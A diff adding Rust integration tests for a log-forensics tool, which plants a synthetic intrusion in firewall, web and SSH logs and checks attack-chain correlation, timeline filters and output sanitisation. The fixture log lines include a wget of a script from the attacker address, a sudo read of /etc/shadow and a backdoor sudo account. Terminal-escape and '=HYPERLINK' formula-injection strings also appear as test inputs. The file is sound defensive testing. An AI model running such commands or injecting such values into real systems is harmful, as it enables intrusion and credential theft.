@@ -1,0 +1,183 @@
+//! The correlation layer on a planted two-host, three-source intrusion: the attack chain comes
+//! out in order with its evidence, the address is seen across sources, an administrator's
+//! ordinary session is no chain; and the timeline's filters and formats.
+
+mod common;
+
+use std::path::PathBuf;
+
+use common::*;
+use logsleuth::detect::finding::{Finding, FindingsDoc};
+
+fn t(min: i64) -> String {
+    let s = 10 * 3600 + min * 60;
+    format!("Dec  1 {:02}:{:02}:{:02}", s / 3600, s / 60 % 60, s % 60)
+}
+
+/// Intruder 203.0.113.66: port scan (firewall, h1) → web probe (access, h1) → SSH brute force →
+/// login as svc on h1 → sudo bash → useradd + sudo group → wget → login to h2 from h1 → sudo on h2.
+/// Alice: an ordinary admin session with `sudo apt upgrade`.
+fn intrusion() -> (tempfile::TempDir, PathBuf) {
+    let x = "203.0.113.66";
+    let mut ufw = String::new();
+    for p in 0..25 {
+        ufw += &format!(
+            "{} h1 kernel: [UFW BLOCK] IN=eth0 OUT= SRC={x} DST=10.1.0.1 PROTO=TCP SPT=4000 DPT={}\n",
+            t(0),
+            20 + p
+        );
+    }
+    let mut access = String::new();
+    for i in 0..3 {
+        access +=
+            &format!("{x} - - [01/Dec/2026:10:{:02}:00 +0000] \"GET /.env HTTP/1.1\" 404 9 \"-\" \"curl/8\"\n", 10 + i);
+    }
+    let mut auth1 = String::new();
+    for d in 1..=3 {
+        auth1 += &format!(
+            "Nov {:2} 09:00:00 h1 sshd[9{d}]: Accepted publickey for svc from 10.1.0.9 port 5000 ssh2\n",
+            26 + d
+        );
+    }
+    for i in 0..6 {
+        auth1 += &format!("{} h1 sshd[{}]: Failed password for svc from {x} port 5{i}00 ssh2\n", t(20 + i), 100 + i);
+    }
+    auth1 += &format!("{} h1 sshd[200]: Accepted password for svc from {x} port 5999 ssh2\n", t(27));
+    auth1 += &format!("{} h1 sudo:      svc : TTY=pts/0 ; PWD=/home/svc ; USER=root ; COMMAND=/bin/bash\n", t(29));
+    auth1 += &format!("{} h1 useradd[201]: new user: name=ghost, UID=1100, GID=1100, home=/home/ghost, shell=/bin/bash, from=/dev/pts/0\n", t(31));
+    auth1 += &format!("{} h1 usermod[202]: add 'ghost' to group 'sudo'\n", t(32));
+    auth1 += &format!(
+        "{} h1 sudo:      svc : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/wget http://{x}/a.sh\n",
+        t(33)
+    );
+    auth1 += &format!("{} h1 sshd[300]: Accepted publickey for alice from 10.1.0.9 port 6000 ssh2\n", t(60));
+    auth1 += &format!(
+        "{} h1 sudo:    alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt upgrade\n",
+        t(61)
+    );
+    let mut auth2 = String::new();
+    auth2 += &format!("{} h2 sshd[400]: Accepted publickey for svc from 10.1.0.1 port 7000 ssh2\n", t(40));
+    auth2 += &format!(
+        "{} h2 sudo:      svc : TTY=pts/0 ; PWD=/home/svc ; USER=root ; COMMAND=/bin/cat /etc/shadow\n",
+        t(41)
+    );
+    let dir = tempfile::tempdir().unwrap();
+    let ev = dir.path().join("ev");
+    write(&ev, "h1/var/log/ufw.log", ufw.as_bytes());
+    write(&ev, "h1/var/log/apache2/access.log", access.as_bytes());
+    write(&ev, "h1/var/log/auth.log", auth1.as_bytes());
+    write(&ev, "h2/var/log/auth.log", auth2.as_bytes());
+    let case = dir.path().join("case");
+    ok(&["ingest", ev.to_str().unwrap(), "--case", case.to_str().unwrap(), "--year", "2026", "-q"]);
+    ok(&["detect", "--case", case.to_str().unwrap(), "-q"]);
+    (dir, case)
+}
+
+fn findings(case: &std::path::Path) -> Vec<Finding> {
+    FindingsDoc::load(&case.join("findings.json")).unwrap().findings
+}
+
+#[test]
+fn attack_chain_in_order_across_two_hosts_and_three_sources() {
+    let (_d, case) = intrusion();
+    let f = findings(&case);
+    let chains: Vec<&Finding> = f.iter().filter(|x| x.rule == "attack_chain").collect();
+    assert_eq!(chains.len(), 1, "one chain, and alice's session is not one");
+    let c = chains[0];
+    assert_eq!(c.severity.as_str(), "critical");
+    assert_eq!(
+        (c.source_ip.as_deref(), c.user_name.as_deref(), c.host_name.as_deref()),
+        (Some("203.0.113.66"), Some("svc"), Some("h1"))
+    );
+    let stages: Vec<&str> =
+        c.details["steps"].as_array().unwrap().iter().map(|s| s["step"].as_str().unwrap()).collect();
+    assert_eq!(
+        stages,
+        [
+            "reconnaissance",
+            "exploitation attempts",
+            "brute force",
+            "initial access",
+            "privilege escalation",
+            "persistence",
+            "download",
+            "lateral movement",
+            "privilege escalation"
+        ],
+        "the /.env probes are a web_attack; useradd + usermod of one account are one account_change"
+    );
+    let minutes: Vec<i64> = c.details["steps"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .skip(1)
+        .map(|s| s["minutes_since_previous"].as_i64().unwrap())
+        .collect();
+    assert_eq!(minutes, [10, 10, 7, 2, 2, 2, 7, 1]);
+    let ev: Vec<(&str, i64)> = c.evidence.iter().map(|e| (e.file.as_str(), e.line)).collect();
+    assert_eq!(ev[0], ("h1/var/log/ufw.log", 1));
+    assert!(ev.contains(&("h1/var/log/auth.log", 10)), "the login that worked: {ev:?}");
+    assert!(ev.contains(&("h2/var/log/auth.log", 1)), "the lateral login: {ev:?}");
+    assert!(ev.contains(&("h2/var/log/auth.log", 2)));
+    let cross: Vec<&Finding> = f.iter().filter(|x| x.rule == "cross_source").collect();
+    assert_eq!(cross.len(), 1);
+    assert_eq!(cross[0].details["sources"], "apache_access, auth, firewall");
+    assert_eq!(cross[0].severity.as_str(), "high");
+    assert!(cross[0].details["sightings"]["firewall@h1"]["first"].as_str().unwrap().starts_with("2026-12-01T10:00"));
+    assert!(!f.iter().any(|x| x.user_name.as_deref() == Some("alice") && x.severity.as_str() == "critical"));
+}
+
+#[test]
+fn timeline_filters_and_formats() {
+    let (_d, case) = intrusion();
+    let c = case.to_str().unwrap();
+    // Table: time-ordered across hosts, provenance on every line.
+    let out = ok(&["timeline", "--case", c, "--user", "svc", "--from", "2026-12-01T10:27:00Z"]);
+    let lines: Vec<&str> = out.lines().skip(1).collect();
+    assert!(
+        lines[0].contains("auth.success svc from 203.0.113.66") && lines[0].contains("[h1/var/log/auth.log:10]"),
+        "{out}"
+    );
+    assert!(lines.iter().any(|l| l.contains(" h2 ")), "both hosts: {out}");
+    // CIDR and action filters; relative time.
+    let out = ok(&["timeline", "--case", c, "--ip", "203.0.113.0/24", "--action", "auth.", "--format", "csv"]);
+    assert_eq!(out.lines().count(), 1 + 6 + 1, "header, 6 failures, 1 success:\n{out}");
+    let out = ok(&["timeline", "--case", c, "--from", "-10m", "--format", "jsonl"]);
+    assert_eq!(out.lines().count(), 2, "the last ten minutes: alice's login and sudo:\n{out}");
+    // --around and --rule.
+    let out = ok(&["timeline", "--case", c, "--around", "2026-12-01T10:40:00Z", "--window", "1m", "--format", "jsonl"]);
+    assert!(out.lines().all(|l| l.contains("\"host_name\":\"h2\"")) && out.lines().count() == 2, "{out}");
+    let out = ok(&["timeline", "--case", c, "--rule", "success_after_failures", "--format", "jsonl"]);
+    assert_eq!(out.lines().count(), 7);
+    // Timesketch columns.
+    let out = ok(&["timeline", "--case", c, "--host", "h2", "--format", "timesketch"]);
+    assert!(out.starts_with("message,datetime,timestamp_desc,timestamp,"));
+    assert!(out.contains(",2026-12-01T10:40:00Z,Event Recorded,"));
+    // Parquet needs a file and reads back.
+    let pq = case.join("tl.parquet");
+    ok(&["timeline", "--case", c, "--format", "parquet", "-o", pq.to_str().unwrap()]);
+    use polars::prelude::SerReader;
+    let df = polars::prelude::ParquetReader::new(std::fs::File::open(&pq).unwrap()).finish().unwrap();
+    assert_eq!(df.height() as i64, count(&case, "SELECT COUNT(*) FROM events"));
+    assert_eq!(run(&["timeline", "--case", c, "--format", "parquet"]).status.code(), Some(2));
+    assert_eq!(run(&["timeline", "--case", c, "--from", "last tuesday"]).status.code(), Some(2));
+}
+
+#[test]
+fn hostile_text_is_neutralised_in_terminal_and_spreadsheet_output() {
+    let dir = tempfile::tempdir().unwrap();
+    let ev = dir.path().join("ev");
+    let log = "Dec  1 10:00:00 h1 sshd[1]: Invalid user \u{1b}[2J\u{1b}]0;pwned\u{7} from 192.0.2.1 port 1\n\
+               Dec  1 10:00:01 h1 sshd[2]: Invalid user =HYPERLINK(\"http://x\",\"y\") from 192.0.2.1 port 2\n";
+    write(&ev, "h1/var/log/auth.log", log.as_bytes());
+    let case = dir.path().join("case");
+    ok(&["ingest", ev.to_str().unwrap(), "--case", case.to_str().unwrap(), "--year", "2026", "-q"]);
+    let table = ok(&["timeline", "--case", case.to_str().unwrap()]);
+    assert!(!table.contains('\u{1b}') && !table.contains('\u{7}'), "no escape sequences reach the terminal");
+    assert!(table.contains("\\x1b[2J"));
+    let csv = ok(&["timeline", "--case", case.to_str().unwrap(), "--format", "csv"]);
+    assert!(!csv.contains(",=HYPERLINK"), "{csv}");
+    assert!(csv.contains("'=HYPERLINK"));
+    let q = ok(&["query", "--case", case.to_str().unwrap(), "SELECT user_name FROM events"]);
+    assert!(!q.contains('\u{1b}'));
+}
